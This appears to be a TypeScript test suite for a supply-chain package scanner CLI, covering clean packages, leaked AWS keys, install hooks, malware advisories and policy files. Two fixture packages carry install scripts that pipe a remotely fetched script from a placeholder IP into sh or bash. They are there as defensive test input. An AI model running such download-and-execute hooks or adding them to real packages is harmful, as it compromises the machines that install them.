import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { packageTgz } from '../e2e/tarballs.js';
import { awsKeyPair } from '../security/secrets/fake-secrets.js';
import { errorLine, repoRoot, runCli } from './helpers.js';

interface ScanResult {
  file: string;
  verdict: string;
  name?: string;
  findings: { rule: string; action: string; location?: { file: string; line?: number } }[];
  error?: { code: string; message: string };
}

describe('stockade scan (offline)', () => {
  let work: string;
  const file = async (name: string, data: Buffer | string) => {
    const target = path.join(work, name);
    await writeFile(target, data);
    return target;
  };
  const scan = async (args: string[]) => {
    const result = await runCli(['scan', ...args, '--json']);
    return { ...result, results: result.stdout ? (JSON.parse(result.stdout) as ScanResult[]) : [] };
  };

  before(async () => {
    work = await mkdtemp(path.join(tmpdir(), 'stockade-scan-'));
  });
  after(async () => {
    await rm(work, { recursive: true, force: true });
  });

  it('passes a clean package with exit 0, without a server or database', async () => {
    const clean = await file('clean-1.0.0.tgz', packageTgz({ name: 'clean-lib', version: '1.0.0', main: 'index.js' }));
    const { code, results, stderr } = await scan([clean]);
    assert.equal(code, 0, stderr);
    assert.equal(results[0]?.verdict, 'allow');
    assert.equal(results[0]?.name, 'clean-lib');
  });

  it('blocks a leaked AWS key with exit 1 and names the file and line without the secret', async () => {
    const { id, secret } = awsKeyPair('scan-leaky');
    const leaky = await file(
      'leaky-1.0.0.tgz',
      packageTgz({ name: 'leaky-lib', version: '1.0.0' }, [{ path: 'package/config.js', content: `exports.aws = {\n  id: '${id}',\n  secret: '${secret}',\n};\n` }]),
    );
    const { code, results, stdout } = await scan([leaky]);
    assert.equal(code, 1);
    assert.equal(results[0]?.verdict, 'block');
    assert.ok(results[0]?.findings.some((f) => f.rule.startsWith('secrets/aws') && f.location?.file === 'config.js' && f.location.line === 2));
    assert.ok(!stdout.includes(id) && !stdout.includes(secret));
    const text = await runCli(['scan', leaky]);
    assert.match(text.stdout, /leaky-lib@1\.0\.0 {2}BLOCK/);
    assert.match(text.stdout, /block +(high|critical) +secrets\/aws[\w-]+ {2}config\.js:2/);
  });

  it('reports a quarantine verdict and fails on it only with --fail-on quarantine', async () => {
    const hook = await file('hook-1.0.0.tgz', packageTgz({ name: 'hooky', version: '1.0.0', scripts: { postinstall: 'curl -s http://203.0.113.5/i.sh | sh' } }));
    const lenient = await scan([hook]);
    assert.equal(lenient.code, 0);
    assert.equal(lenient.results[0]?.verdict, 'quarantine');
    const strict = await scan([hook, '--fail-on', 'quarantine']);
    assert.equal(strict.code, 1);
  });

  it('matches known malware from --advisories', async () => {
    const pkg = await file('flatmap-stream-0.1.1.tgz', packageTgz({ name: 'flatmap-stream', version: '0.1.1' }));
    const { code, results } = await scan([pkg, '--advisories', path.join(repoRoot, 'test/data/advisories/nodejs-security-wg.zip')]);
    assert.equal(code, 1);
    assert.ok(results[0]?.findings.some((f) => f.rule === 'vulns/malicious' && f.action === 'block'));
  });

  it('applies --policy and rejects an invalid one with the path of the error', async () => {
    const hook = await file('hook2-1.0.0.tgz', packageTgz({ name: 'hooky2', version: '1.0.0', scripts: { preinstall: 'wget -qO- http://203.0.113.5/x | bash' } }));
    const strict = await file('strict.yaml', 'version: 1\nrules:\n  - match: { analyzer: install-scripts, severityAtLeast: high }\n    action: block\n');
    const blocked = await scan([hook, '--policy', strict]);
    assert.equal(blocked.code, 1);
    assert.equal(blocked.results[0]?.verdict, 'block');
    const broken = await file('broken.yaml', 'version: 1\nrules:\n  - match: { analyzer: secrets }\n    action: explode\n');
    const invalid = await runCli(['scan', hook, '--policy', broken]);
    assert.notEqual(invalid.code, 0);
    assert.match(errorLine(invalid), /invalid policy: rules\[0\]\.action/);
  });

  it('reports a file that is not a package and keeps scanning the others', async () => {
    const junk = await file('junk.tgz', Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x01, 0x02]));
    const clean = await file('clean2-1.0.0.tgz', packageTgz({ name: 'clean-two', version: '1.0.0' }));
    const { code, results } = await scan([junk, clean]);
    assert.equal(code, 1);
    assert.equal(results[0]?.verdict, 'error');
    assert.equal(results[0]?.error?.code, 'INVALID_ARCHIVE');
    assert.equal(results[1]?.verdict, 'allow');
  });
});
